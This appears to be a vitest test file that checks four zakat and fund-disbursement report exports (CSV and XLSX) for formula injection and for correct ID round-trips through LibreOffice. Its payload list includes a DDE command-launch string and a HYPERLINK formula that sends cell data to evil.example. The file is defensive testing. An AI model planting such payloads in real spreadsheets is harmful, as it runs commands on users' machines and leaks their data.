import { execFile, spawnSync } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { readXlsx } from "hucre/xlsx";
import papaparse from "papaparse";
import { beforeEach, describe, expect, it } from "vitest";
import { capabilityNames } from "contract/capabilities";
import { menuFeatureCodes } from "contract/features";
import type { ExportRow } from "contract/specified/reports";
import { appOnFakeBank, signIn } from "./app";
import { exported } from "./bank-answers";

/** The files of the four reports, read back as spreadsheets read them. */

const { app, bank } = await appOnFakeBank();
const cookie = await signIn(app, bank, { features: menuFeatureCodes });

const reports = [
  "/report-penyaluran-zakat",
  "/report-penggunaan-zakat",
  "/report-pencairan-dana",
  "/report-koreksi-dana",
];

/** What spreadsheets take, or have once taken, for the beginning of a formula. */
const payloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1)',
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "|calc",
  " =1+1",
  "\u00a0=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(A1)",
];

const ids = ["0123456789012345", "3204117101900001", "9471010101019999"];

/** All rows that a bank may give, of whoever is named so and numbered so. */
function rowsOf(names: readonly string[], numbers: readonly string[]): ExportRow[] {
  return names.map((name, place) => {
    const number = numbers[place % numbers.length] ?? "";
    const party = { name, ktp: number, npwp: number };
    return {
      _key: number,
      transaction_timestamp: "2026-11-20T23:30:00.000Z",
      status_code: "settled",
      amount: 1_500_000,
      source_name: party.name,
      source_ktp: party.ktp,
      source_npwp: party.npwp,
      beneficiary_name: party.name,
      beneficiary_ktp: party.ktp,
      beneficiary_npwp: party.npwp,
    };
  });
}

beforeEach(() => bank.support(capabilityNames));

async function file(address: string): Promise<Buffer> {
  const response = await app.request(address, { cookie });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

/** The cells of the rows of a CSV file, without its head. */
async function csvCells(report: string): Promise<string[][]> {
  const text = (await file(`${report}/report.csv`)).toString("utf8").replace(/^\uFEFF/, "");
  const { data, errors } = papaparse.parse<string[]>(text, { delimiter: ";", newline: "\r\n" });
  expect(errors).toEqual([]);
  return data.slice(1, -1);
}

/** A text in a wrapper that it cannot leave, or one that begins with nothing a formula begins with. */
const inert = /^(?:="(?:[^"]|"")*"|(?!\p{Zs}*[=+\-@|\t\r\n\uFF1D\uFF0B\uFF0D\uFF20\uFF5C])[^]*)$/u;

describe.each(reports)("the files of %s", (report) => {
  it.each(payloads)("keep %j as a text", async (payload) => {
    bank.answer("exportTransactions", exported(rowsOf([payload], [payload])));
    const [cells = []] = await csvCells(report);
    expect(cells.length).toBeGreaterThanOrEqual(4);
    for (const cell of cells) expect(cell).toMatch(inert);

    const { sheets } = await readXlsx(await file(`${report}/report.xlsx`));
    const row = sheets[0]?.rows[1] ?? [];
    const texts = row.filter((cell) => typeof cell === "string").map((cell) => cell.toLowerCase());
    expect(texts).toContain(payload.toLowerCase());
    expect(row).toContain(1_500_000);
  });

  it("have a row for each that the bank gave", async () => {
    const names = Array.from({ length: 2_345 }, (_, place) => `Siti ${place}`);
    bank.answer("exportTransactions", exported(rowsOf(names, ids)));
    expect(await csvCells(report)).toHaveLength(names.length);
    const { sheets } = await readXlsx(await file(`${report}/report.xlsx`));
    expect(sheets[0]?.rows).toHaveLength(names.length + 1);
  });
});

const run = promisify(execFile);
const hasLibreOffice = spawnSync("soffice", ["--version"]).status === 0;
/** `;`, `"`, UTF-8, from the first line, formulas evaluated. */
const ourCsv = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true";
/** Cells as they are shown, in UTF-8. */
const shownCsv = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false";

describe.runIf(hasLibreOffice)("LibreOffice", () => {
  it.each(["csv", "xlsx"])(
    "reads the ids of a .%s as they were",
    async (extension) => {
      bank.answer("exportTransactions", exported(rowsOf(ids, ids)));
      const folder = await mkdtemp(path.join(tmpdir(), "report-"));
      try {
        const name = path.join(folder, `report.${extension}`);
        await writeFile(name, await file(`/report-penggunaan-zakat/report.${extension}`));
        await run(
          "soffice",
          [
            `-env:UserInstallation=file://${folder}/profile`,
            "--headless",
            ...(extension === "csv" ? [`--infilter=${ourCsv}`] : []),
            ...["--convert-to", shownCsv, "--outdir", path.join(folder, "shown"), name],
          ],
          { timeout: 110_000 },
        );
        const shown = await readFile(path.join(folder, "shown", "report.csv"), "utf8");
        const { data } = papaparse.parse<string[]>(shown.replace(/^\uFEFF/, ""), { delimiter: ";" });
        const rows = data.slice(1, 1 + ids.length);
        expect(rows.map(([id]) => id)).toEqual(ids);
        expect(rows.map((cells) => cells[5])).toEqual(ids);
      } finally {
        await rm(folder, { recursive: true, force: true });
      }
    },
    120_000,
  );
});
